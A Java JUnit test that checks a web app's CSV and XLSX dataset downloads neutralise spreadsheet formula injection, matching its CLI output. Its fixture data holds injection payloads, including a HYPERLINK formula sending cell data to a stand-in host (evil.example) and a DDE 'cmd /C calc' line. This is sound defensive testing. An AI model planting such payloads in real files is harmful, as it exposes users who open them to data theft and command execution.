package org.klaster.app.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.klaster.app.Klaster;
import org.klaster.complexity.ExportRecord;
import org.klaster.data.store.Dataset;
import org.klaster.data.store.DatasetKind;

/**
 * Issue 10, probe 3 (formula injection) through the web: a stored dataset whose codes start with
 * {@code = + - @} is downloaded as CSV with those cells neutralised (leading single quote, quoted) — byte for
 * byte the CLI's {@code --format csv --names} — and as XLSX with them as text cells, never formulas.
 */
class FormulaCellsDownloadTest {

    static final List<String> LOCATIONS = List.of("=HYPERLINK(\"http://evil.example/?q=\"&A1,\"open\")", "+1+cmd|' /C calc'!A0",
            "@SUM(1)", "-2+3");
    static final List<String> PRODUCTS = List.of("0001", "=1+1", "-0003", "@0004", "0005");
    static final double[][] X = {{20, 10, 0, 0, 10}, {0, 10, 10, 0, 0}, {0, 0, 10, 10, 0}, {0, 0, 0, 10, 10}};
    static final String CSV_URL = "/opportunities/complexity/export.csv?dataset=evil-exports&year=2023&lang=en";

    static TestServer server;

    static List<ExportRecord> records() {
        List<ExportRecord> out = new ArrayList<>();
        for (int c = 0; c < X.length; c++) {
            for (int p = 0; p < X[c].length; p++) out.add(new ExportRecord(2023, LOCATIONS.get(c), PRODUCTS.get(p), X[c][p]));
        }
        return out;
    }

    @BeforeAll
    static void start() {
        server = new TestServer(false, store -> store.saveExports(Dataset.of("evil-exports", DatasetKind.EXPORTS,
                "evil.csv", null, 20, null, false, null, null), records(), true));
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    @Test
    void theCsvDownloadNeutralisesFormulaCellsAsTheCliDoes(@TempDir Path dir) throws Exception {
        HttpResponse<String> web = server.get(CSV_URL);
        assertThat(web.statusCode()).as(web.body()).isEqualTo(200);
        String csv = web.body();
        assertThat(csv).contains("\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1,\"\"open\"\")\"", "\"'+1+cmd|' /C calc'!A0\"",
                "\"'@SUM(1)\"", "\"'-2+3\"", "\"'=1+1\"", "\"'-0003\"", "\"'@0004\"");
        for (String line : csv.lines().skip(1).toList()) assertThat(line).startsWith("2023,\"'"); // every location is a payload
        assertThat(csv).containsPattern(",-\\d+\\.\\d+,"); // negative ECI/PCI stay numbers
        // byte for byte the CLI on the same exports as a file
        StringBuilder file = new StringBuilder("year,location,product,value\n");
        for (ExportRecord r : records()) {
            file.append(r.year()).append(",\"").append(r.location().replace("\"", "\"\"")).append("\",\"").append(r.product())
                    .append("\",").append((long) r.value()).append('\n');
        }
        Path exports = Files.writeString(dir.resolve("evil.csv"), file);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        int code = Klaster.run(new String[] {"complexity", "--exports", exports.toString(), "--year", "2023", "--format", "csv",
                "--names", "--lang", "en"}, new PrintStream(out, true, StandardCharsets.UTF_8), new PrintStream(err, true, StandardCharsets.UTF_8), false);
        assertThat(code).as(err.toString(StandardCharsets.UTF_8)).isZero();
        assertThat(csv).isEqualTo(out.toString(StandardCharsets.UTF_8));
    }

    @Test
    void theXlsxDownloadKeepsThemAsText() throws Exception {
        HttpResponse<byte[]> r = HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(server.base()
                + CSV_URL.replace("export.csv", "export.xlsx"))).build(), HttpResponse.BodyHandlers.ofByteArray());
        assertThat(r.statusCode()).isEqualTo(200);
        List<String> seen = new ArrayList<>();
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(r.body()))) {
            List<Row> rows = wb.getFirstSheet().read();
            for (Row row : rows.subList(1, rows.size())) {
                for (int c = 1; c <= 3; c += 2) { // location, product (location_name between them)
                    assertThat(row.getCell(c).getType()).isEqualTo(CellType.STRING);
                    assertThat(row.getCell(c).getFormula()).isNull();
                    seen.add(row.getCell(c).asString());
                }
            }
        }
        assertThat(seen).containsAll(LOCATIONS).containsAll(PRODUCTS);
    }
}
